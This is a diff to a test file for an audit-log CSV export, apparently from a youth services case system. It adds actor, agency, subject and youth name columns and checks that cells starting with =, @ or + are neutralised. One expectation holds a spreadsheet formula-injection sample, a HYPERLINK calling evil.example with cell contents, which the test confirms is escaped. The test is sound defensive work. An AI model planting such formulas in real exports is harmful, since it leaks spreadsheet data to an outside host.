@@ -48,7 +48,7 @@ describe('audit CSV', () => {
     expect(lines).toHaveLength(4);
     expect(lines[3]).toBe('');
     expect(lines[0]).toBe(
-      'seq,at,event,outcome,actor_user_id,actor_agency_id,youth_id,record_type,record_id,fields,ip,user_agent,details,id,prev_hash,hash',
+      'seq,at,event,outcome,actor_user_id,actor_name,actor_agency_id,actor_agency_name,subject_user_id,subject_name,youth_id,youth_ref,youth_name,record_type,record_id,fields,ip,user_agent,details,id,prev_hash,hash',
     );
     expect(lines[1]).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
     expect(lines[1]).toContain(',first_name date_of_birth,');
@@ -56,5 +56,28 @@ describe('audit CSV', () => {
     expect(lines[2]?.startsWith('8,2026-11-28T14:00:00.000Z,youth.updated,success,')).toBe(true);
     expect(auditCsv([record], { header: false }).startsWith('7,')).toBe(true);
     expect(auditCsv([])).toBe(`${lines[0]}\r\n`);
+  });
+
+  it('adds the names of people and youth, neutralised like every other cell', () => {
+    const csv = auditCsv([
+      {
+        ...record,
+        actorName: '=Ana Ruiz',
+        actorAgencyName: 'DMH, Central',
+        subjectUserId: '019ac000-0000-7000-8000-000000000004',
+        subjectName: '@Luis "Lucho" Ortega',
+        youthRef: '0000-0003',
+        youthName: '+Yesenia Quintanilla',
+      },
+      record,
+    ]);
+    const [, named, unnamed] = csv.split('\r\n');
+    expect(named).toContain(
+      `,019ac000-0000-7000-8000-000000000002,'=Ana Ruiz,,"DMH, Central",019ac000-0000-7000-8000-000000000004,"'@Luis ""Lucho"" Ortega",019ac000-0000-7000-8000-000000000003,0000-0003,'+Yesenia Quintanilla,youth,`,
+    );
+    // Without names (a reader who may not see the youth, a person unknown): empty cells, the columns in place.
+    expect(unnamed).toContain(
+      ',019ac000-0000-7000-8000-000000000002,,,,,,019ac000-0000-7000-8000-000000000003,,,youth,',
+    );
   });
 });
